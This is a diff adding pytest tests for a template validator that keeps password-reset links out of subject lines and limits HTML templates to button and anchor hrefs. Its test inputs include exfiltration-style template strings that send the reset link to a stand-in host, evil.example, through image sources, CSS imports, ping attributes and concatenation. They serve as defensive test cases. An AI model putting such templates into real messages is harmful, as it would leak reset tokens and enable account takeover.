@@ -87,3 +87,46 @@ def test_an_sms_and_a_subject_stand_alone() -> None:
 def test_html_that_was_typed_by_customers_stays_text_in_new_wordings() -> None:
     template = RENDERER.from_source("html", "<b>{{ booking.number }}</b>")
     assert template.render(booking={"number": "<i>"}) == "<b>&lt;i&gt;</b>"
+
+
+@pytest.mark.parametrize("source", ["Reset {{ link }}", "{{ 'x' ~ link }}", "{% if link %}x{% endif %}"])
+def test_a_subject_shows_no_link(source: str) -> None:
+    assert "no links" in reason(source, "subject", Kind.PASSWORD_RESET)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        '<img src="https://evil.example/?{{ link }}">',
+        '<img src="{{ link }}">',
+        '<a href="https://evil.example/?{{ link }}">x</a>',
+        "<a href={{ link }}>x</a>",
+        '<a href="{{ link }}" ping="https://evil.example/">x</a>',
+        '<a href="https://evil.example/" title="{{ link }}">x</a>',
+        '<a href="{{ link | upper }}">x</a>',
+        """<img src='https://evil.example/?<a href="{{ link }}">x</a>'>""",
+        """<img src='https://evil.example/?{{ button("x", link) }}'>""",
+        """{% if first_name %}<img src='https://evil.example/?{% endif %}{{ button("x", link) }}'>""",
+        """<img src="https://evil.example/?{% if first_name %}{{ button("x", link) }}{% endif %}">""",
+        """<style>@import 'https://evil.example/?{{ button("x", link) }}'</style>""",
+        """<!-- {{ button("x", link) }}""",
+        """{{ button(link, "https://evil.example/") }}""",
+        """{{ button("x", "https://evil.example/?" ~ link) }}""",
+        """{% call paragraph() %}{{ link }}{% endcall %}""",
+        "{{ heading(link) }}",
+        "{{ link }}",
+    ],
+)
+def test_in_html_a_link_is_only_the_address_that_a_click_leads_to(source: str) -> None:
+    imports = '{% from "parts.html" import button, heading, paragraph %}'
+    mistake = mistake_in(RENDERER, Kind.PASSWORD_RESET, "html", imports + source)
+    assert mistake is not None
+    assert "link" in mistake.reason
+
+
+def test_links_in_buttons_and_anchors_are_as_before() -> None:
+    source = """{% extends "base.html" %}{% from "parts.html" import button %}{% block content %}
+    <p style='margin:0'>Hello {{ first_name }}</p>{% if link %}<a class="x" href="{{ link }}" style="color:#111">x</a>
+    {% endif %}<img src="https://totetaxi.example/logo.png" alt="{{ first_name }}">{{ button("Go", link) }}
+    {% endblock %}"""
+    assert reason(source, "html", Kind.PASSWORD_RESET) == ""
